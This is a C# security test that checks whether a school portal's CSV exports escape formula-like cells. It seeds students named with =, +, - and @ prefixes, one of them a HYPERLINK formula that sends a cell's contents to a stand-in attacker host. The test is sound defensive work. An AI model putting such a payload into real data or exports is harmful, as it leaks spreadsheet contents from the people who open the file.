using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using Portal.EndToEnd.Tests;
using Xunit.Abstractions;

namespace Portal.Security.Tests;

/// <summary>
/// CSV formula injection: a school and students whose names start with =, +, - and @ (as an MIS or a careless import
/// might hand them over), then every CSV export the OpenAPI documents declare (Accept/answer text/csv) downloaded
/// through the gateway: no cell starts with a character a spreadsheet would run, and each formula-like name is there,
/// escaped with a leading quote.
/// </summary>
[Collection(SecuritySuiteCollection.Name)]
public sealed class CsvExportTests(SecuritySuiteFixture suite, ITestOutputHelper output)
{
    private const string SchoolName = "+Sum Academy";
    private const string RunsInASpreadsheet = "=+-@\t\r";

    /// <summary>Given and family names, each starting with a character a spreadsheet would run.</summary>
    private static readonly (string Given, string Family)[] Students =
    [
        ("=HYPERLINK(\"http://attacker.example/?\"&A1,\"Open\")", "Formula"),
        ("Plus", "+Sum(1,2)"),
        ("-2+3", "Minus"),
        ("At", "@SUM(A1:A9)"),
    ];

    [Fact]
    public async Task Every_CSV_export_escapes_cells_that_a_spreadsheet_would_run()
    {
        var clients = suite.Clients;
        var (org, school, admin) = await clients.SchoolAsync("@Formula Trust", SchoolName, "CSVX");
        var term = await TermCoveringTodayAsync(admin, org);
        var operatorForOrg = clients.Bearer(await clients.OperatorTokenAsync(), org);
        var logins = await operatorForOrg.PutAsJsonAsync($"/institution/institutions/{school}/settings/student-logins",
            new { enabled = true, yearGroups = new[] { "Y10" } });
        Assert.True(logins.IsSuccessStatusCode, await logins.Content.ReadAsStringAsync());
        var students = new List<Guid>();
        foreach (var (given, family) in Students)
        {
            var created = await admin.PostAsJsonAsync($"/roster/institutions/{school}/students", new
            {
                givenName = given, familyName = family, yearGroup = "Y10", email = $"s{Guid.NewGuid():N}{Waiting.StudentEmailDomainOf(school)}",
            });
            Assert.True(created.StatusCode == HttpStatusCode.Created, $"{given} {family}: {await created.Content.ReadAsStringAsync()}");
            students.Add((await created.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid());
        }

        var exports = new Dictionary<string, CsvTable>
        {
            ["GET /access-codes/bulk/{job}/codes.csv"] = await AccessCodesExportAsync(admin, school, students),
        };
        var invoice = await DraftInvoiceAsync(admin, org, term);
        exports["GET /billing/organisations/{org}/invoices"] = await CsvAsync(admin, $"/billing/organisations/{org}/invoices?term={term}");
        exports["GET /billing/invoices/{invoice}"] = await CsvAsync(admin, $"/billing/invoices/{invoice}");
        var finance = await FinanceClient.RegisterAsync(clients, suite.System);
        exports["GET /billing/invoices"] = (await finance.InvoicesCsvAsync(term)) is var all
            ? Only(all, r => r["Organisation ID"] == org.ToString()) : null!;

        var report = new SecurityReport();
        foreach (var (operation, csv) in exports)
        {
            var running = csv.Rows.SelectMany(r => r.Values).Where(c => c.Length > 0 && RunsInASpreadsheet.Contains(c[0])).ToList();
            report.Add(new("csv: no cell a spreadsheet would run", operation, HttpStatusCode.OK, running.Count == 0 && csv.Rows.Count > 0,
                running.Count == 0 ? $"{csv.Rows.Count} rows" : $"runs: {string.Join(" | ", running)}"));
            var expected = operation.StartsWith("GET /access-codes", StringComparison.Ordinal)
                ? Students.SelectMany(s => new[] { s.Given, s.Family }).Append(SchoolName).Where(n => RunsInASpreadsheet.Contains(n[0])).ToArray()
                : [SchoolName];
            var missing = expected.Where(name => csv.Rows.All(r => !r.Values.Contains("'" + name))).ToList();
            report.Add(new("csv: formula-like names there, escaped", operation, HttpStatusCode.OK, missing.Count == 0,
                missing.Count == 0 ? "" : $"not found quoted: {string.Join(" | ", missing)}"));
        }
        var declared = CsvOperations();
        foreach (var operation in declared.Where(o => !exports.ContainsKey(o)))
            report.Add(new("csv: export declared but not checked", operation, 0, false, "add it to this check"));

        output.WriteLine(report.Table($"CSV exports through the gateway: {exports.Count} downloads",
        [
            $"declared text/csv in the OpenAPI documents: {string.Join(", ", declared)}",
            $"data: the school \"{SchoolName}\", the organisation \"@Formula Trust\", students {string.Join(", ", Students.Select(s => $"\"{s.Given} {s.Family}\""))}",
            "a cell counts as running when it starts with =, +, -, @, tab or carriage return; escaped cells start with a single quote",
        ]));
        output.WriteLine(SecurityReport.SuiteTable());
        Assert.Empty(report.Failures);
    }

    /// <summary>
    /// The reads the OpenAPI documents offer as CSV: a .csv path, or text/csv named in the operation (its responses, or
    /// its summary where one status answers JSON or CSV by the Accept header and the document lists one of them).
    /// </summary>
    private List<string> CsvOperations() =>
    [
        .. suite.Operations
            .Where(o => o.Method == "GET" && (o.PublicPath.EndsWith(".csv", StringComparison.OrdinalIgnoreCase)
                                              || OperationJson(o).Contains("text/csv", StringComparison.OrdinalIgnoreCase)))
            .Select(o => o.Name).Distinct(),
    ];

    private static string OperationJson(ApiOperation operation) => string.Concat(operation.Document.GetProperty("paths").EnumerateObject()
        .Where(p => operation.PublicPath.EndsWith(p.Name, StringComparison.Ordinal))
        .Select(p => p.Value.TryGetProperty(operation.Method.ToLowerInvariant(), out var method) ? method.GetRawText() : ""));

    private static CsvTable Only(CsvTable table, Func<IReadOnlyDictionary<string, string>, bool> keep)
    {
        Assert.Contains(table.Rows, r => keep(r));
        return table;
    }

    /// <summary>The school's Year 10 get codes in one bulk request, once AccessCode knows every student added; its CSV.</summary>
    private static async Task<CsvTable> AccessCodesExportAsync(HttpClient admin, Guid school, IReadOnlyList<Guid> students)
    {
        foreach (var student in students)
            await Waiting.Until(async () => (await admin.GetAsync($"/access-codes/students/{student}")).StatusCode == HttpStatusCode.OK,
                "AccessCode to learn the student from Roster");
        var response = await admin.PostAsJsonAsync("/access-codes/bulk", new { schoolId = school, yearGroups = new[] { "Y10" } });
        Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
        var job = await response.Content.ReadFromJsonAsync<JsonElement>();
        var csv = await CsvAsync(admin, new Uri(job.GetProperty("links").GetProperty("csv").GetString()!).PathAndQuery);
        Assert.Equal(students.Count, csv.Rows.Count);
        return csv;
    }

    private static async Task<CsvTable> CsvAsync(HttpClient client, string path)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, path);
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
        using var response = await client.SendAsync(request);
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{path}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        return CsvTable.Parse(await response.Content.ReadAsByteArrayAsync());
    }

    /// <summary>A term that started a month ago and ends in two months, so today's logins are billed in it.</summary>
    private static async Task<string> TermCoveringTodayAsync(HttpClient admin, Guid org)
    {
        var today = DateOnly.FromDateTime(DateTime.UtcNow);
        var term = $"{today.AddDays(-30).Year}-current";
        var response = await admin.PutAsJsonAsync($"/institution/organisations/{org}/terms/{term}",
            new { name = "Current term", start = today.AddDays(-30), end = today.AddDays(60) });
        Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync());
        return term;
    }

    /// <summary>The organisation's draft invoice once it bills every student at the school (Billing learns them from Identity).</summary>
    private static async Task<Guid> DraftInvoiceAsync(HttpClient admin, Guid org, string term)
    {
        Guid? id = null;
        await Waiting.Until(async () =>
        {
            var response = await admin.GetAsync($"/billing/organisations/{org}/invoices?term={term}");
            if (response.StatusCode != HttpStatusCode.OK) return false;
            var invoices = await response.Content.ReadFromJsonAsync<JsonElement>();
            foreach (var invoice in invoices.EnumerateArray())
                if (invoice.GetProperty("lines").EnumerateArray().Any(l => l.GetProperty("schoolName").GetString() == SchoolName
                                                                          && l.GetProperty("quantity").GetInt64() == Students.Length))
                    id = invoice.GetProperty("id").GetGuid();
            return id is not null;
        }, "Billing to bill every student of the school", TimeSpan.FromSeconds(120));
        return id!.Value;
    }
}
